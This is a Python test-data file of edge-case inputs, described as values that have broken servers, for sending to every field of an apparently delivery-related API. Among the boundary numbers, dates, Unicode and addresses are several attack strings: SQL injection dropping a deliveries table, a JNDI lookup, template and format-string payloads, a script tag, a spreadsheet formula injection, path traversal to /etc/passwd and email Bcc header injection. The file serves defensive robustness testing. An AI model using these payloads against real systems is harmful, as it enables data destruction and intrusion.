"""Values that have broken servers; each is sent to each field."""

LARGE = [99_999_999_999, -1, 2**31, 2**63, -(2**63), 10**30, 1e308, 5e-324, 0, -0.0, 1.0, 1.5]
SHAPES = [True, None, [], {}, [None], {"a": 1}, [{"b": []}], {"lat": 1, "lng": 2}]
NUMBERS_AS_TEXT = ["1", "1e3", "NaN", "-1", "٣", "1_000"]
TEXTS = [
    "",
    " ",
    "\t\r\n",
    "a\r\nBcc: all@evil.example",
    "a\nb",
    "\u202egnp.exe",
    "\ufeffx",
    "\u0007",
    "\x7f",
    "\U0010ffff",
    "e\u0301" * 50,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 10,
    "x" * 201,
    "x" * 100_000,
    "'; DROP TABLE deliveries; --",
    "1' OR '1'='1",
    "%s%n{0}${jndi:ldap://x}{{7*7}}",
    "<script>alert(1)</script>",
    "=cmd()|' /C calc'!A0",
    "../../etc/passwd",
    "null",
    "admin",
]
MOMENTS = [
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999999Z",
    "2026-02-30T00:00:00Z",
    "2026-01-01T00:00:00",
    "2026-01-01",
    "2026-06-30T23:59:60Z",
    "2026-01-01T00:00:00+99:99",
    "infinity",
]
ADDRESSES = [
    "a@b",
    "a@b.example\r\nBcc: c@d.example",
    "a@b.example, c@d.example",
    "a b@c.example",
    "a" * 300 + "@b.example",
    "a@" + "b." * 200 + "example",
    "\u0130stanbul@b.example",
    "a@b\u00fccher.example",
    "+19005550123",
    "07946 000000",
    "+4420794600001234567890",
    "+442079460000 ext. 12",
]
EVERYTHING = [*LARGE, *SHAPES, *NUMBERS_AS_TEXT, *TEXTS, *MOMENTS, *ADDRESSES]
# One of each kind, for places that share their fields with one that gets everything.
A_FEW = [2**63, -1, 1e308, True, None, [], {"a": 1}, "", "x" * 100_000, "\u202ex", "a\r\nb", "1' OR '1'='1", "Zoë"]
